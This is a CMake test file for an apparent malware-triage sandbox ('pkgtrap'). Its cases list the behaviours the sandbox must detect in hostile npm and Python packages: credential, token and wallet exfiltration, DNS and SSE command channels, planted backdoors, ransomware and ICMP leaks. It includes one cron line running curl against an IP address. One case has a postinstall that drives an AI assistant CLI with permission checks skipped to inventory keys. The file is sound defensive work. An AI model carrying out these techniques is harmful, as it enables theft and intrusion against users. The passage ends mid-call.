# pkgtrap triage end to end: the real binary triages real corpus artifacts
# in the real jail, inside an outer `unshare --net` (loopback only) as a
# safety belt; a python3 checker then reads the record (JSON only).
find_program(UNSHARE unshare REQUIRED)
set(TRIAGE_DIR ${CMAKE_CURRENT_SOURCE_DIR}/triage)
set(TRIAGE_ART ${PKGTRAP_CORPUS_ARTIFACTS})

# triage_case(NAME ARTIFACT EXIT MAX_SECONDS DEPS CHECK...)
function(triage_test_properties test)
  set_tests_properties(${test} PROPERTIES
    ENVIRONMENT "PKGTRAP=$<TARGET_FILE:pkgtrap>;PKGTRAP_PROFILES=${CMAKE_SOURCE_DIR}/profiles;TEST_TMP=${CMAKE_BINARY_DIR}/test-tmp"
    TIMEOUT 120 LABELS "integration;triage"
    # The jail tests check that nothing of pkgtrap is left on the machine.
    RESOURCE_LOCK host_state)
endfunction()

function(triage_case name artifact rc max_s deps)
  add_test(NAME triage_${name}
    COMMAND ${UNSHARE} --net -- bash ${TRIAGE_DIR}/triage_test.sh
            ${artifact} ${rc} ${max_s} ${deps} -- ${ARGN})
  triage_test_properties(triage_${name})
endfunction()

# The same on a package a test builder writes into TEST_TMP as FILE when
# the test runs: FILE's extension picks it, tests/triage/make_npm_pkg.py
# KIND for a .tgz, make_py_pkg.py KIND for a .whl.
function(triage_built name kind file rc max_s deps)
  add_test(NAME triage_${name}
    COMMAND ${UNSHARE} --net -- bash ${TRIAGE_DIR}/built_test.sh
            ${kind} ${file} ${rc} ${max_s} ${deps} -- ${ARGN})
  triage_test_properties(triage_${name})
endfunction()

triage_case(wheel_cmdhijack_aws ${TRIAGE_ART}/awscli_sso_helper-1.3.1-py3-none-any.whl 0 30 -
  --phase install=ok --phase startup=ok --phase import=ok
  --phase console_scripts:aws --phase "console_scripts:aws --help" --phase console_scripts:git
  "--event" "console_scripts:aws|file|path~.aws/credentials"
  "--event" "console_scripts:aws|net|hostname~sso-sync.aws-helpers.test"
  "--event" "console_scripts:aws|honeytoken|token~AWS_SECRET_ACCESS_KEY"
  "--event" "console_scripts:git|exec|path~/usr/bin/git"
  --hijack aws --hijack git=wraps)
triage_case(wheel_pth_autoexec ${TRIAGE_ART}/jsonlog_formatter-0.4.0-py3-none-any.whl 0 30 -
  --phase startup=ok
  "--event" "startup|file|path~.git-credentials"
  "--event" "startup|net|address~192.0.2.44"
  "--event" "startup|honeytoken|token~GITHUB_TOKEN")
triage_case(wheel_console_help ${TRIAGE_ART}/csv_linter-1.0.1-py3-none-any.whl 0 30 -
  --phase install=ok --phase console_scripts:csv-lint=ok
  "--phase" "console_scripts:csv-lint --help=ok"
  --no-event net --no-event honeytoken --no-event dns)
triage_case(wheel_pytest_plugin ${TRIAGE_ART}/pytest_slow_report-0.2.0-py3-none-any.whl 0 30 -
  --phase pytest=failed)
triage_case(wheel_dep_unresolved ${TRIAGE_ART}/flask_jwt_session-0.5.0-py3-none-any.whl 0 30 -
  --unresolved jwtsession-core "--phase" "install --no-deps=ok")
triage_case(wheel_dep_resolved ${TRIAGE_ART}/flask_jwt_session-0.5.0-py3-none-any.whl 0 30 ${TRIAGE_ART}
  --phase install=ok "--event" "import|honeytoken|token~AWS")
triage_case(sdist_setup_blob ${TRIAGE_ART}/python-dateutils-2.8.3.tar.gz 0 30 -
  --phase install=ok
  "--event" "install|net|address~203.0.113.10"
  "--event" "install|file|path~.bashrc"
  "--event" "install|file|path~autostart/tzdata-sync.desktop")
# Sleeps 25 s before acting: answered at once, so well under 25 s.
triage_case(sdist_delayed ${TRIAGE_ART}/aiohttp-socks5-0.8.1.tar.gz 0 15 -
  --phase install=ok "--event" "install|sleep-shortened"
  "--event" "install|honeytoken|where~http" --stat sleeps_shortened>=1)
# A 25 s Node timer in postinstall: shortened (node-timers.cjs), so the
# payload acts within ~2 s and is caught.
triage_case(npm_delayed ${TRIAGE_ART}/env-cmd-lite-10.1.1.tgz 0 15 -
  --phase install=ok --phase lifecycle:postinstall=ok
  "--event" "lifecycle:postinstall|sleep-shortened"
  "--event" "lifecycle:postinstall|honeytoken|token~NPM_TOKEN"
  --stat sleeps_shortened>=1)
triage_case(npm_preinstall_http ${TRIAGE_ART}/expresss-4.18.3.tgz 0 30 -
  --phase install=ok --phase lifecycle:preinstall=ok --phase import
  "--event" "lifecycle:preinstall|file|path~.npmrc"
  "--event" "lifecycle:preinstall|net|hostname~npm-stats.test"
  "--event" "lifecycle:preinstall|honeytoken|token~NPM_TOKEN")
# The same payload with dependencies --deps lacks (a registry one, a
# scoped one, a git one, a peer): they are stubbed, so the install and the
# preinstall run.
add_test(NAME triage_npm_missing_deps
  COMMAND ${UNSHARE} --net -- bash -c
    "mkdir -p \"$TEST_TMP\" && python3 ${TRIAGE_DIR}/add_npm_deps.py ${TRIAGE_ART}/expresss-4.18.3.tgz \"$TEST_TMP/expresss-deps-4.18.3.tgz\" left-pad=^1.3.0 @acme/http-util=~2.1.0 git-util=github:acme/git-util peer:react=>=16 && bash ${TRIAGE_DIR}/triage_test.sh \"$TEST_TMP/expresss-deps-4.18.3.tgz\" 0 30 - -- --phase install=ok --phase lifecycle:preinstall=ok --unresolved left-pad --stubbed left-pad --stubbed @acme/http-util --stubbed git-util --stubbed react \"--event\" \"lifecycle:preinstall|net|hostname~npm-stats.test\" \"--event\" \"lifecycle:preinstall|honeytoken|token~NPM_TOKEN\"")
triage_test_properties(triage_npm_missing_deps)
# Several versions of a dependency in --deps: each dependent gets the
# highest its range allows (prereleases left out; the version is the
# tarball's package.json's, not its file name's), the second version nested
# below the dependent that needs it (its postinstall runs there), an npm:
# alias its target's; a range no version meets gets the highest, and says
# so. Only then does the package import (one version for all failed it).
add_test(NAME triage_npm_dep_versions
  COMMAND ${UNSHARE} --net -- bash -c
    "d=\"$TEST_TMP/depver\" && mkdir -p \"$d\" && a=$(python3 ${TRIAGE_DIR}/make_npm_depver.py \"$d\") && bash ${TRIAGE_DIR}/triage_test.sh \"$a\" 0 60 \"$d/deps\" -- --phase install=ok --phase import=ok \"--phase\" \"import (again)=ok\" --phase lifecycle:postinstall:mid/node_modules/hashlike=ok --resolved hashlike@1.3.2 --resolved hashlike@2.4.0 --resolved mid-native@1.0.0 --phase lifecycle:postinstall:mid-native=ok --unsatisfied \"oldthing@^5.0.0: no version in --deps satisfies; used 1.0.0\" --no-problem code-never-loaded")
triage_test_properties(triage_npm_dep_versions)
# A package whose require fails in every import phase (it needs a
# dependency --deps lacks): the record's problems say its code never
# loaded, so a clean verdict shows it is no evidence. Python likewise
# when no module imports, and not when one of two does.
triage_built(npm_never_loaded noload hash-wallet-utils-0.3.0.tgz 0 30 -
  --phase import=failed "--phase" "import (again)=failed"
  --problem code-never-loaded)
triage_built(wheel_never_loaded noload fastcrc_bindings-1.2.0-py3-none-any.whl 0 30 -
  --phase import=failed "--phase" "import (again)=failed"
  --problem code-never-loaded)
# A sandbox check by commands in the install script (grep of
# /proc/1/cgroup, cat of a DMI file): seen by their argv, as reads of
# files that hold no token are not recorded.
triage_built(npm_vm_check_commands vmcheck fs-watch-native-1.2.0.tgz 0 30 -
  --phase lifecycle:postinstall=ok
  --event "lifecycle:postinstall|exec|argv~/proc/1/cgroup"
  --event "lifecycle:postinstall|exec|argv~/sys/class/dmi/id/sys_vendor")
# A CLI-only package (bin, nothing to require): its import phases fail,
# but its command ran, so its code did load.
triage_built(npm_bin_only binonly md-toc-cli-2.3.0.tgz 0 30 -
  --phase import=failed --phase bin:md-toc=ok
  --no-problem code-never-loaded)
triage_built(wheel_half_loaded halfload pkg_split_utils-0.1.0-py3-none-any.whl 0 30 -
  --phase import=failed --no-problem code-never-loaded)
# Code only in binding.gyp (npm's default install script, node-gyp
# rebuild): its command expansion runs, offline, in lifecycle:install (at
# configure time: whether the addon then compiles does not matter here).
triage_built(npm_binding_gyp gyp fast-crc32c-native-2.1.0.tgz 0 60 -
  --phase install=ok
  --phase lifecycle:install
  --event "lifecycle:install|dns|name~.gyp-stats.test")
# Commands declared by directories.bin (no "bin"): each file is a bin,
# run bare and with --help; one is named git, a hijack.
triage_built(npm_directories_bin dirbin repo-helpers-0.4.1.tgz 0 30 -
  --phase bin:git=ok
  --phase "bin:git --help=ok"
  --phase bin:repo-sync=ok
  --hijack git)
# Env-only exfiltration over HTTPS (Node's https, Python's urllib): TLS
# interception completes both handshakes, so the requests and the tokens
# in their bodies are seen, and both clients get their answer.
triage_built(npm_https_exfil https telemetry-env-report-1.3.0.tgz 0 30 -
  --phase install=ok
  --phase lifecycle:postinstall=ok
  --event "lifecycle:postinstall|net|sni~env-report.test|tls_intercepted~True|excerpt~POST /v1/env"
  --event "lifecycle:postinstall|net|sni~env-report-py.test|tls_intercepted~True"
  --event "lifecycle:postinstall|honeytoken|where~http-body|hostname~env-report.test"
  --event "lifecycle:postinstall|honeytoken|where~http-body|hostname~env-report-py.test")
# A wheel with the name and version of one the host's Python has (the venv
# sees the system site-packages): pip installs nothing, so it is installed
# again with --ignore-installed and its module's import is seen.
add_test(NAME triage_wheel_shadows_system
  COMMAND ${UNSHARE} --net -- bash -c
    "mkdir -p \"$TEST_TMP/shadow\" && w=$(/usr/bin/python3 ${TRIAGE_DIR}/make_shadow_wheel.py \"$TEST_TMP/shadow\") && bash ${TRIAGE_DIR}/triage_test.sh \"$w\" 0 60 - -- --phase install=ok \"--phase\" \"install --ignore-installed=ok\" --phase import=ok \"--event\" \"import|file|path~.aws/credentials\" \"--event\" \"import|dns|name~shadow-telemetry.test\"")
triage_test_properties(triage_wheel_shadows_system)
# An sdist whose build backend the host lacks and --deps holds: installed
# into the venv first (`build requirements`), so the sdist builds (pip runs
# without build isolation) and its module's import is seen.
add_test(NAME triage_sdist_backend_from_deps
  COMMAND ${UNSHARE} --net -- bash -c
    "d=\"$TEST_TMP/backend-sdist\" && rm -rf \"$d\" && mkdir -p \"$d\" && s=$(python3 ${TRIAGE_DIR}/make_backend_sdist.py \"$d\") && bash ${TRIAGE_DIR}/triage_test.sh \"$s\" 0 60 \"$d/deps\" -- \"--phase\" \"build requirements=ok\" --phase install=ok \"--phase\" \"build hooks=ok\" --phase import=ok \"--event\" \"import|file|path~.aws/credentials\"")
triage_test_properties(triage_sdist_backend_from_deps)
# The same sdist without --deps: pip cannot build it, so its module is
# installed from source, unbuilt (install_source), and its import is still
# seen; the install phases say why.
add_test(NAME triage_sdist_backend_missing
  COMMAND ${UNSHARE} --net -- bash -c
    "d=\"$TEST_TMP/backend-sdist-missing\" && rm -rf \"$d\" && mkdir -p \"$d\" && s=$(python3 ${TRIAGE_DIR}/make_backend_sdist.py \"$d\") && bash ${TRIAGE_DIR}/triage_test.sh \"$s\" 0 60 - -- --phase install=failed \"--phase\" \"install from source=ok\" --phase import=ok \"--event\" \"import|file|path~.aws/credentials\" --no-match \"install from source|file|path~.aws\"")
triage_test_properties(triage_sdist_backend_missing)
# A recon beacon: a bodiless GET carrying the cwd and the hostname (no
# token), and a lookup of the hostname itself (not a leak); the uptime it
# reports is days (the jail's time namespace), whatever the host's.
triage_built(npm_identity_beacon beacon install-metrics-beacon-9.9.9.tgz 0 30 -
  --phase install=ok
  --phase lifecycle:postinstall=ok
  --event "lifecycle:postinstall|identity|token~IDENTITY_WORKDIR|where~http-head|hostname~metrics-beacon.test"
  --event "lifecycle:postinstall|net|sni~metrics-beacon.test|tls_intercepted~True|http~up=days")
# A second stage fetched and run with new Function in the fetching process:
# the fake network's stub creates the session's canary (identity.canary)
# when it runs, so the chain shows though nothing was written to disk.
triage_built(npm_eval_stage evalstage color-theme-loader-1.4.2.tgz 0 30 -
  --phase lifecycle:postinstall=ok
  --event "lifecycle:postinstall|net|http~loader.js"
  --event "lifecycle:postinstall|file|path~/tmp/.X|op~create"
  --canary)
# C2 over Server-Sent Events: an import subscribes with Accept:
# text/event-stream and runs the task it gets; the fake network's task is a
# command that creates the canary, so its exec shows (served-command-ran).
triage_built(npm_sse_c2 ssec2 log-level-remote-0.6.0.tgz 0 30 -
  --phase import=ok
  --event "import|net|sni~push.level-sync.test"
  --event "import|exec|argv~/tmp/.X"
  --event "import|file|path~/tmp/.X|op~create"
  --canary)
# A key library whose seed loader sends the seed it is handed (the
# backdoored xrpl.js): nothing at install or import; the exercise phase
# calls its API with the run's wallet honeytokens, and the seed leaks.
triage_built(wheel_seed_loader_backdoor wallet ledger_keytools-2.1.0-py3-none-any.whl 0 30 -
  --phase import=ok --phase exercise=ok
  --event "exercise|honeytoken|token~WALLET_MNEMONIC|where~http-body|hostname~errors.ledger-keytools.test"
  --event "exercise|honeytoken|token~WALLET_PRIVATE_KEY|where~http-body")
triage_built(npm_seed_loader_backdoor wallet xrpl-wallet-kit-4.2.1.tgz 0 30 -
  --phase import=ok --phase exercise=ok
  --event "exercise|honeytoken|token~WALLET_MNEMONIC|where~http-body|hostname~errors.xrpl-wallet-kit.test"
  --event "exercise|honeytoken|token~WALLET_PRIVATE_KEY|where~http-body")
# Their honest twins: the exercise phase calls their key derivation and
# leaves alone what would reach the network (get_balance, fetchBalance).
triage_built(wheel_key_derivation walletok hd_keyderive-0.9.2-py3-none-any.whl 0 30 -
  --phase exercise=ok --no-event net --no-event honeytoken)
triage_built(npm_key_derivation walletok bip39-lite-3.1.0.tgz 0 30 -
  --phase exercise=ok --no-event net --no-event honeytoken)
# The same through a DNS TXT record (C2 over DNS): the fake DNS answers
# TXT with base64 of a Python/JavaScript stub that creates the canary.
triage_built(npm_dns_txt_stage dnsstage sdk-version-resolver-0.3.1.tgz 0 30 -
  --phase lifecycle:postinstall=ok
  --event "lifecycle:postinstall|dns|qtype~TXT"
  --event "lifecycle:postinstall|file|path~/tmp/.X|op~create"
  --canary)
# A wallet key sent as itself, not as its file: the Solana keypair's hex
# base64'd in a header and its base58 in a body are both its token.
triage_built(npm_solana_key_encodings solkey sol-keypair-cache-1.0.2.tgz 1 30 -
  --phase lifecycle:postinstall=ok
  --event "lifecycle:postinstall|honeytoken|token~SOLANA_KEYPAIR|encoding~base64/hex|where~http-head"
  --event "lifecycle:postinstall|honeytoken|token~SOLANA_KEYPAIR|encoding~base58|where~http-body")
# Secrets printed to the phase's output base64'd twice (tj-actions): the
# captured stdout is scanned, nested base64 decoded.
triage_built(npm_ci_log_leak cilog ci-log-annotations-0.4.0.tgz 1 30 -
  --phase lifecycle:postinstall=ok
  --event "lifecycle:postinstall|honeytoken|token~AWS_SECRET_ACCESS_KEY|encoding~base64/base64|where~stdout"
  --no-event net)
# An ESM-only package with a top-level await: imported with import() when
# require() cannot load it, so its code runs.
triage_built(npm_esm_only esm esm-only-config-2.0.0.tgz 0 30 -
  --phase import=ok
  --event "import|dns|name~cfg.esm-only.test")
# The HOME's desktop clipboard (~/.local/bin/xclip on PATH) holds a token:
# a package that reads it and posts what it got leaks it.
triage_built(npm_clipboard clipboard clip-sync-lite-0.1.4.tgz 1 30 -
  --phase lifecycle:postinstall=ok
  --event "lifecycle:postinstall|exec|path~/.local/bin/xclip"
  --event "lifecycle:postinstall|honeytoken|token~CLIPBOARD_TEXT|where~http-body")
# A clipper: the clipboard holds a wallet address; the package swaps it
# for its own (wl-copy, as WAYLAND_DISPLAY says), and the HOME's clipboard
# keeps what it was given, read back as a config-change.
triage_built(npm_clipper clipper wallet-addr-format-2.0.3.tgz 1 30 -
  --phase lifecycle:postinstall=ok
  --event "lifecycle:postinstall|exec|path~/.local/bin/wl-paste"
  --event "lifecycle:postinstall|exec|path~/.local/bin/wl-copy"
  --event "lifecycle:postinstall|config-change|added~0xdededede")
# A backdoor planted into another package's directory by a write to a dot
# file and a rename: only the rename names the planted file.
triage_built(npm_plant_rename plantrename fetch-retry-timing-1.0.1.tgz 1 30 -
  --phase lifecycle:postinstall=ok
  --event "lifecycle:postinstall|file|op~rename|to~node_modules/node-fetch/index.js")
# The Python equivalent: on import, a backdoored `requests` planted in the
# venv's site-packages (written, and renamed into place).
triage_built(wheel_plant_site_packages plant requests_timing_hooks-0.3.0-py3-none-any.whl 1 40 -
  --phase import=ok
  --event "import|file|op~create|path~site-packages/requests/__init__.py"
  --event "import|file|op~rename|to~site-packages/requests/adapters.py")
# The HOME has an AI assistant's CLI (~/.local/bin/claude): a postinstall
# that finds it asks it, unattended, to inventory keys and wallets.
triage_built(npm_ai_agent aiagent nx-telemetry-plugin-21.5.0.tgz 1 30 -
  --phase lifecycle:postinstall=ok
  --event "lifecycle:postinstall|exec|path~/.local/bin/claude|argv~--dangerously-skip-permissions")
# A payload that waits for its module to be used: import (again) reads
# __all__'s names and imports frameworks beside it (flask: absent here,
# and its import still an audit event).
triage_built(wheel_used_as_project lazy attr_hooks-1.0.0-py3-none-any.whl 0 40 -
  --phase import=ok
  --event "import (again)|dns|name~lazy.attr-hooks.test"
  --event "import (again)|dns|name~audit.attr-hooks.test")
# A package for another os and cpu (npm's EBADPLATFORM): installed with
# --force, so that its postinstall still runs.
triage_built(npm_other_platform otheros win-path-helper-1.0.4.tgz 0 30 -
  --phase "install --force=ok"
  --phase lifecycle:postinstall=ok
  --event "lifecycle:postinstall|file|path~.npmrc"
  --event "lifecycle:postinstall|dns|name~.winpath.test")
# A bin that serves when run bare stops at command_timeout_ms (15 s), not
# at the phase timeout (60 s): the whole triage stays under 40 s.
triage_built(npm_bin_server server tiny-dev-server-0.2.0.tgz 0 40 -
  --phase bin:tiny-dev-server=timed_out
  --phase "bin:tiny-dev-server --help=ok")
triage_case(npm_postinstall_banner ${TRIAGE_ART}/lit-spinner-2.0.1.tgz 0 30 -
  --phase install=ok --phase lifecycle:postinstall=ok --phase import=ok
  --no-event net --no-event honeytoken)
triage_case(npm_bin_hijack ${TRIAGE_ART}/npm-audit-fixer-2.3.0.tgz 0 30 -
  --phase bin:npm "--event" "bin:npm|honeytoken" --hijack npm=wraps)
triage_case(npm_dep_carrier ${TRIAGE_ART}/express-session-store-1.2.0.tgz 0 30 ${TRIAGE_ART}
  --phase lifecycle:postinstall:sessionstore-utils=ok
  "--event" "lifecycle:postinstall:sessionstore-utils|net|hostname~sessionstore-cdn.test")

# A hostile archive is a record with an error and the problem, exit 2.
add_test(NAME triage_hostile_traversal
  COMMAND ${UNSHARE} --net -- bash -c
    "mkdir -p \"$TEST_TMP\" && python3 ${TRIAGE_DIR}/make_hostile.py \"$TEST_TMP/hostile-1.0.0.tgz\" && bash ${TRIAGE_DIR}/triage_test.sh \"$TEST_TMP/hostile-1.0.0.tgz\" 2 10 - -- --error --problem archive-path-traversal && test ! -e \"$TEST_TMP/evil.sh\"")
set_tests_properties(triage_hostile_traversal PROPERTIES
  ENVIRONMENT "PKGTRAP=$<TARGET_FILE:pkgtrap>;PKGTRAP_PROFILES=${CMAKE_SOURCE_DIR}/profiles;TEST_TMP=${CMAKE_BINARY_DIR}/test-tmp"
  TIMEOUT 60 LABELS "integration;triage")

# Every hostile archive of issue 4 (traversal, absolute, symlink escape,
# bomb, truncated, empty, invalid JSON, invalid UTF-8, a 1 MB name), end to
# end: exit 2, verdict error with a clear reason, nothing written outside.
add_test(NAME triage_hostile_archives
  COMMAND ${UNSHARE} --net -- python3 ${TRIAGE_DIR}/hostile_archives.py
          $<TARGET_FILE:pkgtrap> ${CMAKE_BINARY_DIR}/test-tmp/hostile)
set_tests_properties(triage_hostile_archives PROPERTIES
  ENVIRONMENT "PKGTRAP_PROFILES=${CMAKE_SOURCE_DIR}/profiles;TMPDIR=/tmp"
  TIMEOUT 300 LABELS "integration;triage")
# Geofenced stealers: each asks an IP geolocation API where it runs (by
# the URL's /json, over HTTP and over intercepted HTTPS) and steals only
# when the answer parses and names a country it does not spare; the fake
# network's JSON answers carry what such lookups answer.
triage_built(wheel_geofenced_import geofence locale_detect-1.4.0-py3-none-any.whl 0 30 -
  --phase import=ok
  --event "import|net|hostname~geo.ip-lookup.test"
  --event "import|honeytoken|token~AWS_SECRET_ACCESS_KEY|where~http-body|hostname~stats.ip-lookup.test")
triage_built(npm_geofenced_postinstall geofence tz-offset-utils-2.0.3.tgz 0 30 -
  --phase lifecycle:postinstall=ok
  --event "lifecycle:postinstall|honeytoken|token~AWS_SECRET_ACCESS_KEY|where~http-body|hostname~telemetry.geo-check.test")
# PKGTRAP_PROFILES relative to the working directory: init binds profile
# files into the jail after it has left that directory, so pkgtrap makes
# the path absolute first (every npm phase failed its set-up before).
add_test(NAME triage_relative_profiles
  COMMAND ${UNSHARE} --net -- bash -c
    "cd '${CMAKE_SOURCE_DIR}' && PKGTRAP_PROFILES=profiles exec bash '${TRIAGE_DIR}/built_test.sh' geofence tz-offset-utils-2.0.3.tgz 0 30 - -- --phase install=ok --phase lifecycle:postinstall=ok")
triage_test_properties(triage_relative_profiles)
# A cron job installed through crontab(1): the honeytoken HOME's crontab
# (this host has none) keeps the table, so the job is a config-change.
triage_built(wheel_crontab_job cronjob sched_sync_agent-0.2.0-py3-none-any.whl 1 30 -
  --phase import=ok
  --event "import|exec|path~/.local/bin/crontab|argv~'crontab', '-'"
  --event "import|config-change|path~/.local/share/crontab.txt|added~curl -fsS http://198.51.100.9/u")
# Ransomware: ~/Documents (notes and a scan in the honeytoken HOME)
# encrypted and deleted, the shell history emptied; the open that empties
# a file says how much it held (truncated), a new file says nothing.
triage_built(npm_ransom_documents ransom node-fs-cleanup-1.3.0.tgz 1 30 -
  --phase lifecycle:postinstall=ok
  --event "lifecycle:postinstall|file|op~delete|path~/Documents/notes.md"
  --event "lifecycle:postinstall|file|op~delete|path~/Documents/passport-scan.pdf"
  --event "lifecycle:postinstall|file|path~/.bash_history|truncated~")
# In-place encryption: ~/Documents opened read-write and written over
# (no truncation, no rename, no delete: in_place says what the file held);
# tracks hidden by a read-only open with O_TRUNC and by truncate(2). The
# note it leaves again in a later phase is its own file: no truncated.
triage_built(wheel_documents_in_place inplace doc_sync_tools-1.0.2-py3-none-any.whl 1 30 -
  --phase import=ok
  --event "import|file|op~write|path~/Documents/notes.md|in_place~"
  --event "import|file|op~write|path~/Documents/passport-scan.pdf|in_place~"
  --event "import|file|path~/.bash_history|flags~O_RDONLY|truncated~"
  --event "import|file|op~truncate|path~/.ssh/known_hosts|truncated~"
  --event "import (again)|file|op~create|path~/Desktop/HOW_TO_RESTORE.txt"
  --no-match "import (again)|file|path~/Desktop/HOW_TO_RESTORE.txt|truncated~")
# Protestware: a message dropped on the user's Desktop (the HOME has the
# XDG folders a desktop session makes) at require.
triage_built(npm_protestware_desktop protest ansi-colors-plus-1.4.44.tgz 1 30 -
  --phase import=ok
  --event "import|file|op~create|path~/Desktop/WITH-LOVE.txt")
# Benign: a prebuilt addon asked of its vendor's host at install (a
# version and a platform in the path, over HTTPS, by a shell script of the
# package): a low finding, not a suspicious one; the lookup that came
# before the connection is no DNS channel.
triage_built(npm_prebuilt_download prebuilt webp-encoder-native-3.1.0.tgz 0 30 -
  --phase lifecycle:install=ok
  --event "lifecycle:install|exec|argv~scripts/install.sh"
  --event "lifecycle:install|net|hostname~prebuilds.webp-encoder.test|port~443")
# A stage asked of a bare address with the host's name in the query: the
# GET to an address is no vendor download (network-from-install-hook).
triage_built(wheel_address_stage ipstage http_retry_kit-0.9.1-py3-none-any.whl 1 30 -
  --phase import=ok
  --event "import|net|hostname~203.0.113.77|port~80")
# A backdoor in a function only callers run: the exercise phase calls
# each plain exported function once, bare.
triage_built(npm_bare_call_backdoor bareapi ssh-config-lite-1.0.6.tgz 1 30 -
  --phase exercise=ok
  --event "exercise|file|path~/.ssh/authorized_keys")
triage_built(wheel_bare_call_backdoor bareapi sshconf_tools-1.0.6-py3-none-any.whl 1 30 -
  --phase exercise=ok
  --event "exercise|file|path~/.ssh/authorized_keys")
# A payload that waits for the first use of what the package's factory
# returns (a logger's first line): the exercise calls each plain method
# of what a bare call gave back, once.
triage_built(npm_first_use_payload logfirst quick-json-logger-9.6.0.tgz 1 30 -
  --phase exercise=ok
  --event "exercise|honeytoken|token~AWS_SECRET_ACCESS_KEY|hostname~hooks.log-relay.test"
  --no-match "import|net")
# A payload hooked into http/https/fetch that waits for the program's first
# request: the exercise makes one (to loopback's port 0) as a program would.
triage_built(npm_http_hook_first_request hookreq http-timing-agent-3.0.1.tgz 1 30 -
  --phase exercise=ok
  --event "exercise|honeytoken|token~GITHUB_TOKEN|hostname~relay.timing-agent.test"
  --no-match "import|net")
# A CLI that sends GITHUB_TOKEN to api.github.com, what the token is for:
# clean (honeytoken-used-with-its-service), though the token is seen.
triage_built(npm_token_to_its_service ghcli gh-review-queue-1.2.0.tgz 0 30 -
  --event "bin:gh-review-queue|honeytoken|token~GITHUB_TOKEN|hostname~api.github.com")
# A payload in the constructor of an exported class (options parameter
# left out): the exercise makes each such class once, bare.
triage_built(npm_ctor_payload ctor winston-http-sink-2.1.4.tgz 1 30 -
  --phase exercise=ok
  --event "exercise|honeytoken|token~NPM_TOKEN|hostname~intake.log-sink.test"
  --no-match "import|net")
# A plugin whose payload waits for its host's first hook call (tox's
# tox_add_option): the entry point's phase calls the module's hooks.
triage_built(wheel_tox_plugin_hook toxplugin tox_envfile-0.4.0-py3-none-any.whl 1 30 -
  --phase "tox:envfile=ok"
  --event "tox:envfile|honeytoken|token~PYPI_TOKEN|hostname~cache.tox-envfile.test"
  --no-match "import|net")
# A Poetry plugin (poetry absent): its class is made and activate() called
# with a stand-in application, as Poetry does at every start.
triage_built(wheel_poetry_plugin_activate poetryplugin poetry_lockdiff-1.0.1-py3-none-any.whl 1 30 -
  --phase "poetry.application.plugin:lock-diff=ok"
  --event "poetry.application.plugin:lock-diff|honeytoken|token~PYPI_TOKEN|hostname~stats.poetry-lockdiff.test"
  --no-match "import|net")
# A payload hooked into urllib that waits for the program's first
# request: the exercise makes one (to loopback) as a program would.
triage_built(wheel_http_hook_first_request hookhttp http_timing_probe-0.3.0-py3-none-any.whl 1 30 -
  --phase exercise=ok
  --event "exercise|honeytoken|token~GITHUB_TOKEN|hostname~relay.http-probe.test"
  --no-match "import|net")
# A wallet library that sends the key it derives from the seed it is
# handed (xrpl 2025): the derived key is no honeytoken, but the call
# reached the network while it ran (key-call-reached-network).
triage_built(wheel_key_call_network keyderive xrpl_wallet_lite-4.2.1-py3-none-any.whl 1 30 -
  --phase exercise=ok
  --event "exercise|connect|key_call~True"
  --no-event honeytoken)
# Payloads a framework runs (exercise, _pt_hosts.py): with stand-ins for
# the frameworks the jail lacks, a Django app's AppConfig.ready(), a Sphinx
# extension's build-finished handler (as in a CI job: it pushes the
# environment's tokens with git, whose pack the fake network takes and
# scans), a Jupyter server extension's load function (the server's token
# is a honeytoken, JUPYTER_TOKEN); and a benign Flask extension's
# init_app, which reads and sends nothing.
triage_built(wheel_django_ready djready django_audit_trail-3.2.0-py3-none-any.whl 1 30 -
  --phase exercise=ok
  --event "exercise|honeytoken|token~AWS_SECRET_ACCESS_KEY|hostname~audit-sink.test"
  --no-match "import|net")
triage_built(wheel_sphinx_ci_push sphinxci sphinx_copybutton_plus-0.6.1-py3-none-any.whl 1 40 -
  --phase exercise=ok
  --event "exercise|net|http~/git-receive-pack"
  --event "exercise|honeytoken|token~GITHUB_TOKEN|encoding~zlib/|hostname~git.copybtn.test")
triage_built(wheel_jupyter_ext_token jupyter jupyter_panel_metrics-0.2.0-py3-none-any.whl 1 30 -
  --phase exercise=ok
  --event "exercise|honeytoken|token~JUPYTER_TOKEN|address~198.51.100.61")
triage_built(wheel_flask_ext_benign flaskok flask_request_timer-1.0.3-py3-none-any.whl 0 30 -
  --phase exercise=ok
  --no-event net --no-event honeytoken)
# A payload that waits in an exit handler, registered when a class of the
# package is made: the exercise makes each class that needs no argument,
# then runs the exit handlers.
triage_built(wheel_atexit_handler atexit logship_handlers-0.8.0-py3-none-any.whl 1 30 -
  --phase exercise=ok
  --event "exercise|honeytoken|token~AWS_ACCESS_KEY_ID"
  --no-match "import|net")
# A payload gated on a GitHub Actions job: the second import runs with a
# CI environment (phase_env), where it pushes to a git remote; the first
# import, without it, stays quiet.
triage_built(npm_ci_gated_push cigated jest-swc-cache-0.4.2.tgz 1 40 -
  --phase "import (again)=ok"
  --event "import (again)|exec|argv~push"
  --no-match "import|exec|argv~push")
# An audit hook added at import that acts when the program opens a
# credential file: the import harnesses raise such events (sys.audit,
# python-site/_pt_audit.py) after the imports, opening nothing.
triage_built(wheel_audit_hook audithook proc_context_log-0.6.2-py3-none-any.whl 1 30 -
  --phase import=ok
  --event "import|file|path~.aws/credentials"
  --event "import|honeytoken|token~AWS_SECRET_ACCESS_KEY")
# A clipboard stealer in a daemon thread that starts only with a terminal
# (the first import has one) and outside CI: the clipboard hands it the
# wallet's phrase at its second read; the import waits a moment for live
# threads.
triage_built(wheel_tty_clipboard ttyclip rich_progress_lite-0.5.0-py3-none-any.whl 1 30 -
  --phase import=ok
  --event "import|honeytoken|token~WALLET_MNEMONIC"
  --no-match "import (again)|honeytoken")
# Credentials leaked through ping's payload pattern, 16 bytes a packet:
# no argument holds a token whole; the pings' starts and the read do
# (covert-channel-command, credential-read-and-covert-channel).
triage_built(wheel_icmp_pattern icmpexfil net_latency_probe-0.2.1-py3-none-any.whl 1 30 -
  --phase import=ok
  --event "import|file|path~.git-credentials"
  --event "import|exec|argv~-p"
  --event "import|exec|argv~q.latency-probe.test")
# Plugins whose host is absent offline: what they import of it (and of
# its dependencies) gets stand-ins, their hooks run as on a developer's
# machine and in CI; a module entry point's unprefixed hooks too; a
# setuptools hook is left to the setuptools build, whose real
# Distribution it needs (a bare call first would spend its once-a-day
# stamp).
triage_built(wheel_plugin_host_absent_ci toxci tox_venv_cache-0.5.0-py3-none-any.whl 1 30 -
  --phase "tox:venv_cache=ok"
  --event "tox:venv_cache|honeytoken|token~PYPI_TOKEN")
triage_built(wheel_plugin_module_hooks modhook llm_tools_lite-0.2.0-py3-none-any.whl 1 30 -
  --phase "llm:tools_lite=ok"
